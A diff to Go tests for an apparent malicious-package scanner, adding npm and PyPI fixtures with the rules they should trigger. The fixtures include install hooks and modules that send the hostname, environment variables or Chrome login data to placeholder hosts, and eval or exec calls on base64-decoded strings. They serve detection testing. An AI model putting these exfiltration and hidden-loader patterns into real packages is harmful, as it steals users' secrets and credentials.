@@ -172,6 +172,11 @@ func TestNPMMalicious(t *testing.T) {
 			"package.json": pkgJSON(``),
 			"index.js":     "module.exports = {};\nglobal['ev' + 'al'](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base' + '64').toString());\n",
 		}, want: []want{{RuleEvalDecode, High, "index.js:2:"}}},
+		{name: "hook that changes directory first", eco: "npm", files: map[string]string{
+			"package.json":       pkgJSON(`"postinstall":"cd scripts && node post.js"`),
+			"scripts/post.js":    "const os = require('os');\nrequire('https').get('https://c.example/?h=' + os.hostname());\n",
+			"scripts/unused.txt": "",
+		}, want: []want{{RuleEnvExfil, High, "scripts/post.js:2:"}}},
 		// Require-time payloads: no install script at all.
 		{name: "eval of decoded data in main", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(``),
@@ -184,6 +189,13 @@ func TestNPMMalicious(t *testing.T) {
 			"lib/telemetry.js": "const https = require('https');\nconst body = JSON.stringify(process.env);\n" +
 				"const r = https.request({hostname: 'stats.example', method: 'POST'}); r.end(body);\n",
 		}, want: []want{{RuleEnvExfil, High, "lib/telemetry.js:2:"}}},
+		{name: "payload in a file only a computed require reaches", eco: "npm", files: map[string]string{
+			"package.json":          pkgJSON(``),
+			"index.js":              "const path = require('path');\nfor (const p of ['a', 'b']) require(path.join(__dirname, 'lib', 'plugins', p));\n",
+			"lib/plugins/a.js":      "module.exports = 1;\n",
+			"lib/plugins/b.js":      "module.exports = 2;\nnew Function(Buffer.from('cmV0dXJuIDE=', 'base64').toString())();\n",
+			"test/fixtures/evil.js": "eval(atob('eA=='))\n",
+		}, want: []want{{RuleEvalDecode, High, "lib/plugins/b.js:2:"}}},
 		{name: "wallet and browser data in a bin", eco: "npm", files: map[string]string{
 			"package.json": `{"name":"x","bin":{"x":"cli.js"}}`,
 			"cli.js":       "const p = home + '/Library/Application Support/Google/Chrome/Default/Login Data';\nrequire('https').request('https://c.example', {method:'POST'}).end(read(p));\n",
@@ -265,6 +277,11 @@ func TestPyPI(t *testing.T) {
 			"x-1.0.dist-info/METADATA": "Name: x\n",
 			"sitecustomize.py":         "import x\n",
 		}, want: []want{{RuleSitecustomize, High, "sitecustomize.py:1:"}}},
+		{name: "import-time payload in a module the package imports absolutely", eco: "PyPI", files: map[string]string{
+			"x-1.0.dist-info/METADATA": "Name: x\n",
+			"x/__init__.py":            "from x.core import run\n",
+			"x/core.py":                "import base64\ndef run(): pass\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+		}, want: []want{{RuleEvalDecode, High, "x/core.py:3:"}}},
 		{name: "import-time payload in a wheel package", eco: "PyPI", files: map[string]string{
 			"x-1.0.dist-info/METADATA": "Name: x\n",
 			"x/__init__.py":            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK9EwBAAKfQJ/')))\n",
